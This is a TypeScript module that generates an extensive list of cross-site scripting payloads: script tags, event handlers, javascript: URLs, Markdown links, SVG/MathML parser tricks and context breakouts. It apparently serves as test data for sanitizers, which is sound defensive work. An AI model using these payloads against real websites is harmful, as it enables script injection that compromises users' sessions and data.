/** Runs a payload's script: calls the page's own trap, which is short enough for fields that hold little. */
const short = 'x()'
const long = 'alert(1)'

/** Where a script might be hidden; `RUN` stands for it. */
const hidings: readonly string[] = [
  // Tags
  '<script>RUN</script>', '<SCRIPT>RUN</SCRIPT>', '<script >RUN</script >', '<script\n>RUN</script\n>', '<script/x>RUN</script>', '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src="data:text/javascript,RUN"></script>', '<script type=module>RUN</script>', '<script>RUN', '<script>/*</script><script>*/RUN</script>', '</script><script>RUN</script>',
  '<template><script>RUN</script></template>', '<noscript><p title="</noscript><script>RUN</script>">', '<base href="javascript:RUN//">',
  // Handlers of events
  '<img src onerror=RUN>', '<img src=x onerror="RUN">', "<img src=x onerror='RUN'>", '<img/src=x/onerror=RUN>', '<IMG SRC=x ONERROR=RUN>', '<img src=x onerror=RUN//', '<img src=x:x onerror=RUN>',
  '<img """><img src=x onerror=RUN>', '<img src="x`" onerror=`RUN`>', '<image src=x onerror=RUN>', '<video src=x onerror=RUN>', '<video><source onerror=RUN>', '<audio src=x onerror=RUN>',
  '<body onload=RUN>', '<body onpageshow=RUN>', '<input autofocus onfocus=RUN>', '<select autofocus onfocus=RUN>', '<textarea autofocus onfocus=RUN>', '<button autofocus onfocus=RUN>x</button>',
  '<b onmouseover=RUN>x</b>', '<b onclick=RUN>x</b>', '<a id=x tabindex=1 onfocus=RUN></a>', '<p style=animation-name:x onanimationstart=RUN>', '<details open ontoggle=RUN>', '<marquee onstart=RUN>',
  '<object data=x onerror=RUN>', '<link rel=stylesheet href=x onerror=RUN>', '<style onload=RUN></style>', '<iframe onload=RUN>', '<x onpointerrawupdate=RUN>x', '<div onscrollend=RUN style=overflow:auto>',
  // Addresses
  '<a href="javascript:RUN">x</a>', '<a href="JaVaScRiPt:RUN">x</a>', '<a href=" \tjava\nscript:RUN">x</a>', '<a href="java&#09;script:RUN">x</a>', '<a href="&#106;avascript:RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>', '<a href="data:text/html,<script>RUN</script>">x</a>', '<a href="vbscript:RUN">x</a>', '<a href="view-source:javascript:RUN">x</a>', 'javascript:RUN',
  'JAVASCRIPT:RUN', 'java\tscript:RUN', 'javascript://%0aRUN', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==RUN', '<iframe src="javascript:RUN">', '<iframe srcdoc="<script>RUN</script>">',
  '<form action="javascript:RUN"><button>x', '<button formaction="javascript:RUN">x', '<embed src="javascript:RUN">', '<object data="javascript:RUN">', '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '[x](javascript:RUN)', '[x](JaVaScript:RUN)', '[x](  javascript:RUN)', '[x](javascript&colon;RUN)', '![x](javascript:RUN)', '![x" onerror="RUN](x)', '[x](data:text/html,<script>RUN</script>)', '<javascript:RUN>',
  '[x](https://a.example" onclick="RUN)', '**<img src onerror=RUN>**', '# <svg onload=RUN>', '- <svg onload=RUN>', '`<svg onload=RUN>`', '[x]: javascript:RUN\n[x]',
  // SVG, MathML and what parsers read twice
  '<svg onload=RUN>', '<svg/onload=RUN>', '<svg><script>RUN</script>', '<svg><script>&#82;UN;RUN</script>', '<svg><a xlink:href="javascript:RUN"><text y=9>x', '<svg><animate onbegin=RUN attributeName=x>',
  '<svg><set attributeName=href to="javascript:RUN">', '<svg><use href="data:image/svg+xml,<svg onload=RUN>">', '<svg><foreignObject><img src onerror=RUN>', '<svg><style><img src onerror=RUN></style>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">', '<math><mtext><table><mglyph><style><img src onerror=RUN>', '<math href="javascript:RUN">x', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<table><td><svg><desc><td></svg><img src onerror=RUN>', '<listing>&lt;img src onerror=RUN&gt;</listing>', '<xmp><p title="</xmp><img src onerror=RUN>">', '<!--><img src onerror=RUN>-->', '<![CDATA[><img src onerror=RUN>]]>',
  '<title></title><img src onerror=RUN>', '</title><svg onload=RUN>', '</textarea><svg onload=RUN>', '</style><svg onload=RUN>', '<select><template><style><!--</style><a rel="--></style><img src onerror=RUN>">',
] // prettier-ignore

/** What closes the place a text stands in: an attribute, a program's text, a template, JSON, a style. */
const breakouts: readonly string[] = [
  '"><svg onload=RUN>', "'><svg onload=RUN>", '" onfocus=RUN autofocus x="', "' onmouseover=RUN x='", '` onload=RUN `', '"-RUN-"', "'-RUN-'", '`-RUN-`', '${RUN}', '{{RUN}}', '{{constructor.constructor("RUN")()}}',
  '#{RUN}', '<%= RUN %>', '[[${RUN}]]', '{RUN}', '\\";RUN;//', "\\';RUN;//", '</script><svg onload=RUN>', '\u2028RUN//', ';RUN;', '*/RUN/*', 'expression(RUN)', 'url(javascript:RUN)', '}*{background:url(javascript:RUN)}',
  '\\u003csvg onload=RUN\\u003e', '\\x3csvg onload=RUN\\x3e', '&lt;svg onload=RUN&gt;', '&#60;svg onload=RUN&#62;', '&amp;lt;svg onload=RUN&amp;gt;', '%3Csvg onload=RUN%3E', '＜svg onload=RUN＞', '+ADw-svg onload=RUN+AD4-', '‹svg onload=RUN›',
  '{"__html":"<svg onload=RUN>"}', '__proto__[innerHTML]=<svg onload=RUN>', '<x-y is=script>RUN</x-y>', 'on<x>load=RUN',
] // prettier-ignore

/** Texts that run a script wherever they are taken for markup, an address or a program; each but once. */
export const payloads: readonly string[] = [
  ...new Set([...hidings, ...breakouts].flatMap((one) => [one.replaceAll('RUN', short), one.replaceAll('RUN', long)])),
]
